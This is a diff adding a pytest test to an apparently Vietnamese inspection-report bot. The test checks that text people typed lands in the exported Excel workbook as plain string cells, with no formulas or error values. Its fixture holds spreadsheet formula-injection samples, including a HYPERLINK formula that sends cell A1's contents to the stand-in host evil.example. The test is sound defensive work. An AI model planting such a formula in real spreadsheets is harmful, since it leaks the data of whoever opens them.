@@ -9,6 +9,7 @@ import pytest
 from openpyxl import load_workbook
 from openpyxl.workbook.workbook import Workbook
 
+from bot.checklist.model import ItemType
 from bot.findings.results import area_results
 from bot.reports.archive import archive_name
 from bot.reports.data import InspectionReport, RoundReport
@@ -210,3 +211,46 @@ def test_typed_text_stays_text(tmp_path: Path, report: RoundReport) -> None:
 
     assert (row[2].value, row[2].data_type) == ("=1+1 xã Đu", "s")
     assert (row[8].value, row[8].data_type) == ('=HYPERLINK("http://x","bấm")', "s")
+
+
+TYPED = {
+    "answer": '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
+    "note": "+1+1 thiếu mẫu đơn",
+    "unit": "-2+3 UBND xã Đu",
+    "round": "@SUM(A1:A9) đợt 1",
+    "inspector": "=1+1 Nguyễn Văn An",
+    "sender": "#N/A",
+}
+
+
+def typed_by_people(report: RoundReport) -> RoundReport:
+    """One unit of the round where everything a person typed starts like a formula or an error code."""
+    unit = report.inspections[1]
+    text_item = next(item.id for area in unit.checklist.areas for item in area.items if item.type is ItemType.TEXT)
+    rated_item = unit.checklist.areas[0].items[0].id
+    changed = with_answers(unit, **{text_item: (TYPED["answer"], None), rated_item: ("fail", TYPED["note"])})
+    inspector = changed.inspection.inspector_id
+    members = [m.model_copy(update={"name": TYPED["inspector"]}) if m.user_id == inspector else m for m in unit.members]
+    photos = [photo.model_copy(update={"sender_name": TYPED["sender"]}) for photo in changed.snapshot.photos]
+    snapshot = changed.snapshot.model_copy(
+        update={"inspection": changed.inspection.model_copy(update={"unit": TYPED["unit"]}), "photos": photos}
+    )
+    round_ = samples.ROUND.model_copy(update={"name": TYPED["round"]})
+    changed = changed.model_copy(update={"snapshot": snapshot, "members": members, "round": round_})
+    return report.model_copy(update={"inspections": [changed], "round": round_})
+
+
+def test_everything_people_typed_is_a_string_cell_shown_as_typed(tmp_path: Path, report: RoundReport) -> None:
+    book = written(tmp_path, typed_by_people(report))
+
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    by_value: dict[object, set[str]] = {}
+    for cell in cells:
+        by_value.setdefault(cell.value, set()).add(cell.data_type)
+    assert by_value[TYPED["answer"]] == {"s"}  # both the answer and its label ("Trả lời", "Giá trị")
+    for typed in TYPED.values():
+        assert by_value.get(typed) == {"s"}, typed
+    assert f"Tỷ lệ tiêu chí đạt theo mục – {TYPED['round']}" in by_value
+    assert not [cell.coordinate for cell in cells if cell.data_type in ("f", "e")]
+    answers = list(book["Trả lời"].values)
+    assert sum(row[6] == row[7] == TYPED["answer"] for row in answers) == 1
